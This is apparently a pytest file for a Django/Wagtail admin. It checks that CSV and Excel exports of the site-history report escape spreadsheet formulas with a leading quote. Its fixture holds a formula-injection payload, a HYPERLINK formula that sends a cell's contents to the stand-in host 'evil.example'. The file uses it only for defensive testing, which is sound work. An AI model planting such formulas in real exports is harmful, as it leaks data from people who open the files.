"""No export of the admin holds a cell that a spreadsheet would calculate."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import User

from catalogue.admin import neutral_exports
from tests.catalogue.factories import make_tool

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


@pytest.fixture
def superuser(client, vocabularies):
    client.force_login(User.objects.create_superuser("root", password="x"))
    return client


@pytest.fixture
def named_formula(superuser):
    """A record in the history whose name is a formula."""
    from wagtail.log_actions import log

    tool = make_tool(name=FORMULA)
    log(tool, "wagtail.edit")
    return tool


def test_the_site_history_as_csv_holds_no_formula(superuser, named_formula):
    answer = superuser.get("/admin/reports/site-history/?export=csv")
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]


def test_as_a_workbook_it_holds_none_either(superuser, named_formula):
    answer = superuser.get("/admin/reports/site-history/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(answer.streaming_content))).worksheets[0]
    assert not [cell.value for row in sheet.iter_rows() for cell in row if str(cell.value or "").startswith("=")]


def test_numbers_stay_numbers(superuser):
    from wagtail.admin.views.reports.audit_logging import LogEntriesView

    view = LogEntriesView()
    assert view.preprocess_field_value("count", -5, "csv") == -5
    assert view.preprocess_field_value("name", "=1+1", "csv") == "'=1+1"


def test_wagtail_does_not_do_it_by_itself_yet():
    from wagtail.admin.views.reports.audit_logging import LogEntriesView

    assert neutral_exports._original(LogEntriesView(), "name", "=1+1", "csv") == "=1+1"
